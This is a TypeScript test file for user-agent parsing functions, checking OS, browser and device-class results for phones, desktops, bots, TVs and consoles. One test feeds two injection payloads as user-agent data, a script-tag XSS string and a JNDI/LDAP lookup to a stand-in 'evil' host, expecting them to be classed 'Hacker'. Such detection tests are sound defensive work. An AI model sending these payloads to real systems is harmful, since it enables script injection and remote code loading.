import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { assertFunctionError, call } from './catalogue-helpers';

const IPHONE = 'Mozilla/5.0 (iPhone; CPU iPhone OS 5_1_1 like Mac OS X) AppleWebKit/534.46 (KHTML, like Gecko) Version/5.1 Mobile/9B206 Safari/7534.48.3';
const WINDOWS_CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
const MAC_SAFARI = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15';
const ANDROID_TABLET = 'Mozilla/5.0 (Linux; Android 13; SM-X700) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
const GOOGLEBOT_MOBILE = 'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
const SMART_TV = 'Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.79 Safari/537.36 WebAppManager';
const SWITCH = 'Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/606.4 (KHTML, like Gecko) NF/6.0.1.15.4 NintendoBrowser/5.1.0.20393';
const WATCH = 'Mozilla/5.0 (Linux; Android 11; SM-R890) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100 Mobile Safari/537.36 Watch';

const FUNCTIONS = ['ua_os_name', 'ua_os_version_major', 'ua_os_version', 'ua_os_name_version', 'ua_agent_version', 'ua_agent_version_major', 'ua_agent_name', 'ua_device_class'];

describe('user agent functions', () => {
  it('answer the documented iPhone example', () => {
    assert.equal(call('ua_os_name', IPHONE), 'iOS');
    assert.equal(call('ua_os_version_major', IPHONE), 'iOS 5');
    assert.equal(call('ua_os_version', IPHONE), '5.1.1');
    assert.equal(call('ua_os_name_version', IPHONE), 'iOS 5.1.1');
    assert.equal(call('ua_agent_version', IPHONE), '5.1');
    assert.equal(call('ua_agent_version_major', IPHONE), 'Safari 5');
    assert.equal(call('ua_agent_name', IPHONE), 'Safari');
    assert.equal(call('ua_device_class', IPHONE), 'Phone');
  });

  it('read desktop browsers', () => {
    assert.equal(call('ua_os_name', WINDOWS_CHROME), 'Windows');
    assert.equal(call('ua_agent_name', WINDOWS_CHROME), 'Chrome');
    assert.equal(call('ua_agent_version_major', WINDOWS_CHROME), 'Chrome 120');
    assert.equal(call('ua_device_class', WINDOWS_CHROME), 'Desktop');
    assert.equal(call('ua_os_name_version', MAC_SAFARI), 'Mac OS 10.15.7');
    assert.equal(call('ua_os_version_major', MAC_SAFARI), 'Mac OS 10');
    assert.equal(call('ua_device_class', MAC_SAFARI), 'Desktop');
  });

  it('classify devices like Yauaa', () => {
    const cases: [string, string][] = [
      [ANDROID_TABLET, 'Tablet'], [GOOGLEBOT, 'Robot'], [GOOGLEBOT_MOBILE, 'Robot Mobile'], [SMART_TV, 'TV'],
      [SWITCH, 'Handheld Game Console'], [WATCH, 'Watch'], ['curl/8.4.0', 'Robot'], ['', 'Unknown'], ['SomethingOdd/1.0', 'Unknown'],
      ["Mozilla/5.0 <script>alert('x')</script>", 'Hacker'], ['${jndi:ldap://evil/a}', 'Hacker'],
    ];
    for (const [ua, expected] of cases) assert.equal(call('ua_device_class', ua), expected, ua);
  });

  it('answer Unknown / ?? when the agent says nothing', () => {
    assert.equal(call('ua_os_name', GOOGLEBOT), 'Unknown');
    assert.equal(call('ua_os_version', GOOGLEBOT), '??');
    assert.equal(call('ua_agent_version_major', ''), 'Unknown ??');
    assert.equal(call('ua_os_name_version', ''), 'Unknown ??');
  });

  for (const name of FUNCTIONS) {
    it(`${name}: null → null, non-string → error`, () => {
      assert.equal(call(name, null), null);
      assertFunctionError(() => call(name, { ua: IPHONE }), /USER_AGENT must be a string/);
    });
  }
});
